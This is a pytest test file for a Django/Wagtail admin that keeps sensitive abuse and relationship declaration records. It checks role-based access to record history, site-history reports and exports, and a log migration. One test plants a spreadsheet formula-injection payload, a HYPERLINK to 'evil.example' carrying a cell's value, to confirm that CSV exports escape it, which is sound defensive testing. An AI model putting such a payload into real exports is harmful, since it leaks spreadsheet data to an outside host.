"""A record's audit trail is part of the record: its history page, the admin's site history report and that
report's exports apply the records matrix, with the same 404 as for a record that does not exist."""

import pytest

from accounts import roles
from declarations.models import ABUSE, RELATIONSHIP, RecordLogEntry
from tests.accounts.factories import UserFactory
from tests.conftest import with_mfa

pytestmark = pytest.mark.django_db

HISTORY = "/admin/declarations/record/history/{}/"
SITE_HISTORY = "/admin/reports/site-history/results/"


@pytest.fixture
def people(tree, senior_leader, hr_user, safeguarding_lead, governor, site_admin):
    return {
        "head": senior_leader,
        "hr": hr_user,
        "dsl": safeguarding_lead,
        "governor": governor,
        "site_admin": site_admin,
        "superuser": with_mfa(UserFactory(is_superuser=True, groups=[roles.STAFF])),
    }


SEES = {"head": {RELATIONSHIP, ABUSE}, "hr": {RELATIONSHIP}, "dsl": {ABUSE}}


def _body(response):
    if response.streaming:
        return b"".join(response.streaming_content).decode()
    return response.content.decode()


@pytest.mark.parametrize("role", ["head", "hr", "dsl", "governor", "site_admin", "superuser"])
def test_history_of_a_record_follows_the_matrix(client, records, people, role):
    client.force_login(people[role])
    for form in (RELATIONSHIP, ABUSE):
        record = records[form]
        response = client.get(HISTORY.format(record.pk))
        if form in SEES.get(role, ()):
            assert response.status_code == 200
            assert "Submitted" in response.content.decode()
        else:
            # Exactly what a record that does not exist gets: nothing tells which numbers are taken.
            assert response.status_code == client.get(HISTORY.format(99999)).status_code
            assert record.reference not in _body(response)


@pytest.mark.parametrize("role", ["head", "hr", "dsl", "governor", "site_admin", "superuser"])
@pytest.mark.parametrize("export", ["", "?export=csv", "?export=xlsx"])
def test_site_history_shows_only_the_records_a_person_reviews(client, records, people, role, export):
    client.force_login(people[role])
    response = client.get(SITE_HISTORY + export)
    if response.status_code != 200:
        return  # no access to the report at all
    if export == "?export=xlsx":
        import io

        from openpyxl import load_workbook

        sheet = load_workbook(
            io.BytesIO(b"".join(response.streaming_content) if response.streaming else response.content)
        ).active
        body = " ".join(str(cell.value) for row in sheet.iter_rows() for cell in row)
    else:
        body = _body(response)
    for form in (RELATIONSHIP, ABUSE):
        assert (records[form].reference in body) == (form in SEES.get(role, ())), (role, form)


def test_entries_are_written_to_the_records_own_log(records):
    assert RecordLogEntry.objects.filter(object_id=str(records[ABUSE].pk), form=ABUSE, action="declarations.submit")
    from wagtail.models import ModelLogEntry

    assert not ModelLogEntry.objects.filter(action__startswith="declarations.").exists()


def test_site_history_csv_writes_no_formulas(client, tree, site_admin):
    from wagtail.log_actions import log

    villain = UserFactory(first_name='=HYPERLINK("http://evil.example/?x="&A1,"Click")', last_name="")
    log(villain, "wagtail.edit", user=villain)
    client.force_login(site_admin)
    body = _body(client.get(SITE_HISTORY + "?export=csv"))
    assert "=HYPERLINK" in body
    assert not any(line.startswith("=") or ",=" in line for line in body.splitlines())
    assert "'=HYPERLINK" in body


def test_entries_written_before_the_records_log_existed_are_moved_to_it(records):
    """declarations/0002 moves a Record's entries out of Wagtail's general log (as on an existing site)."""
    import importlib

    from django.apps import apps
    from django.contrib.contenttypes.models import ContentType
    from wagtail.models import ModelLogEntry

    abuse = records[ABUSE]
    RecordLogEntry.objects.all().delete()
    ModelLogEntry.objects.create(
        content_type=ContentType.objects.get_for_model(abuse, for_concrete_model=False),
        label=str(abuse),
        action="declarations.view",
        object_id=str(abuse.pk),
        timestamp="2026-01-01T10:00:00Z",
    )
    migration = importlib.import_module("declarations.migrations.0002_record_log_entries")
    migration.move_record_entries(apps, None)
    assert not ModelLogEntry.objects.filter(action__startswith="declarations.").exists()
    moved = RecordLogEntry.objects.get()
    assert moved.form == ABUSE and moved.object_id == str(abuse.pk) and moved.action == "declarations.view"
